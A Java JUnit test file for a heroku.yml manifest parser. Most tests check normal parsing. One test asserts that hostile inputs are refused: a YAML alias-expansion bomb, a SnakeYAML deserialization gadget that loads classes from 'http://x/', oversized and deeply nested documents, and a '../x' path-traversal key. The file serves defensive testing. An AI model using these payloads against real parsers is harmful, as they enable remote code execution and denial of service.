package io.slipway.buildworker.images;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertThrows;
import static org.junit.jupiter.api.Assertions.assertTrue;

import java.util.Map;
import org.junit.jupiter.api.Test;

/** heroku.yml as the tenant writes it, hostile or not. */
class HerokuYmlTest {
    @Test
    void buildRunAndSetup() throws Exception {
        HerokuYml yml = HerokuYml.parse("""
                setup:
                  addons: [{plan: heroku-postgresql}]
                build:
                  docker:
                    web: Dockerfile
                    worker: worker/Dockerfile
                  config:
                    PORT: 5000
                    RAILS_ENV: production
                run:
                  web: bundle exec puma -C config/puma.rb
                  worker:
                    command:
                      - python
                      - -c
                      - print('hi there')
                """);
        assertEquals(Map.of("web", "Dockerfile", "worker", "worker/Dockerfile"), yml.docker());
        assertEquals(Map.of("PORT", "5000", "RAILS_ENV", "production"), yml.buildArgs()); // strings, not numbers
        assertEquals("bundle exec puma -C config/puma.rb", yml.run().get("web"));
        assertEquals("python -c 'print('\\''hi there'\\'')'", yml.run().get("worker"));
        assertTrue(yml.hasSetup());
        assertEquals(null, yml.release());
    }

    @Test
    void releaseAndRunImagesNameBuildDockerEntries() throws Exception {
        HerokuYml yml = HerokuYml.parse("""
                build: {docker: {web: Dockerfile, worker: w/Dockerfile}}
                run: {worker: {command: [./work], image: web}}
                release:
                  image: worker
                  command:
                    - ./migrate.sh
                """);
        assertEquals("./migrate.sh", yml.release());
        assertEquals("worker", yml.releaseImage());
        assertEquals(Map.of("worker", "web"), yml.runImages());
        assertEquals("./m", HerokuYml.parse("build: {docker: {web: D}}\nrelease: {command: ./m}\n").release());
        assertEquals(null, HerokuYml.parse("build: {docker: {web: D}}\nrelease: {command: ./m}\n").releaseImage());
    }

    @Test
    void emptyAndRunOnly() throws Exception {
        HerokuYml empty = HerokuYml.parse("");
        assertTrue(empty.docker().isEmpty());
        assertFalse(empty.hasSetup());
        assertEquals(Map.of("web", "x"), HerokuYml.parse("run:\n  web: x\n").run());
    }

    @Test
    void hostileDocumentsAreRefusedWithAReason() {
        String bomb = "a: &a [x, x, x, x, x, x, x, x, x]\nb: &b [*a, *a, *a, *a, *a, *a, *a, *a, *a]\n"
                + "c: &c [*b, *b, *b, *b, *b, *b, *b, *b, *b]\nbuild: {docker: {web: Dockerfile}}\n";
        String huge = "build:\n  docker:\n    web: Dockerfile\n# " + "x".repeat(HerokuYml.MAX_CODE_POINTS) + "\n";
        String deep = "build: " + "[".repeat(100) + "]".repeat(100) + "\n";
        String javaTag = "build: !!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[!!java.net.URL [\"http://x/\"]]]]\n";
        for (String doc : new String[] {bomb, huge, deep, javaTag, "build: [1, 2]\n", "run: {web: {}}\n",
                "run: {'../x': cmd}\n", "build: {config: {'A B': x}}\n", "build: {docker: {web: [a]}}\n",
                "run: {web: {image: web}}\n", "a: 1\na: 2\n",
                "build: {docker: {web: D}}\nrun: {web: {command: x, image: other}}\n", "release: [x]\n",
                "build: {docker: {web: D}}\nrelease: {command: x, image: [web]}\n"}) {
            var e = assertThrows(HerokuYml.InvalidHerokuYml.class, () -> HerokuYml.parse(doc), doc.length() > 80 ? doc.substring(0, 80) : doc);
            assertTrue(e.getMessage().startsWith("heroku.yml is invalid: "), e.getMessage());
            assertTrue(e.getMessage().length() < 400, e.getMessage());
        }
    }
}
